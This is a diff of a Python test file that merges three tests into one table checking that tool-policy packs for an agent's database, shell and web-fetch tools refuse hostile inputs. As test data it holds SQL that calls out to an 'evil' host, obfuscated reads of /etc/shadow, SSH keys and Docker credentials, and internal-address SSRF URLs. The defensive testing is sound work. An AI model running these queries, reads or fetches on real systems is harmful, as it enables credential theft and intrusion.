@@ -157,38 +157,24 @@ def pack(file: str, tool: str, args: dict) -> Effect:
     ).effect
 
 
-@pytest.mark.parametrize(
-    "sql",
-    [
+#: file, tool, argument, a value that goes ahead, and values that the pack refuses.
+REFUSED = [
+    ("select-only/policy.yaml", "db/query", "sql", "select 1", [
         "select * from openquery(other, 'select 1')",
         "select * from opendatasource('SQLNCLI', 'Data Source=evil').db.dbo.t",
         "select httpuritype('http://evil.example/?' || name).getclob() from users",
         "select bfilename('DIR', 'passwd') from dual",
         "select get_lock('a', 100000)",
-    ],
-)
-def test_select_only_refuses_what_reaches_out(sql: str) -> None:
-    assert pack("select-only/policy.yaml", "db/query", {"sql": sql}) is Effect.DENY
-
-
-@pytest.mark.parametrize(
-    "command",
-    [
+    ]),
+    ("shell/policy.yaml", "shell/run_command", "command", "cat /etc/hostname", [
         "cat /etc//shadow",
         "cat /etc/./shadow",
         "cat /etc/shadow-",
         "cat /etc/gshadow",
         "cat keys/id_ed25519_sk",
         "cat /home/a/.docker/config.json",
-    ],
-)
-def test_shell_reads_no_keys(command: str) -> None:
-    assert pack("shell/policy.yaml", "shell/run_command", {"command": command}) is Effect.DENY
-
-
-@pytest.mark.parametrize(
-    "url",
-    [
+    ]),
+    ("baseline/no-internal-addresses.yaml", "web/fetch", "url", "http://[2606:4700::1]/", [
         "http://[fec0::1]/",
         "http://[2002:a00:1::]/",
         "http://[2002:7f00:1::1]/",
@@ -196,10 +182,17 @@ def test_shell_reads_no_keys(command: str) -> None:
         "http://[64:ff9b:1::a00:1]/",
         "http://[::ffff:10.0.0.1]/",
         "http://[2001:0:a00:1::1]/",
-    ],
-)
-def test_baseline_knows_internal_addresses_in_every_form(url: str) -> None:
-    assert pack("baseline/no-internal-addresses.yaml", "web/fetch", {"url": url}) is Effect.DENY
+    ]),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("file", "tool", "name", "control", "values"), REFUSED)
+def test_packs_refuse_what_they_say_in_every_form(
+    file: str, tool: str, name: str, control: str, values: list[str]
+) -> None:
+    assert pack(file, tool, {name: control}) is Effect.ALLOW, "positive control"
+    passed = [one for one in values if pack(file, tool, {name: one}) is not Effect.DENY]
+    assert passed == []
 
 
 @pytest.mark.parametrize("now", ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z"])
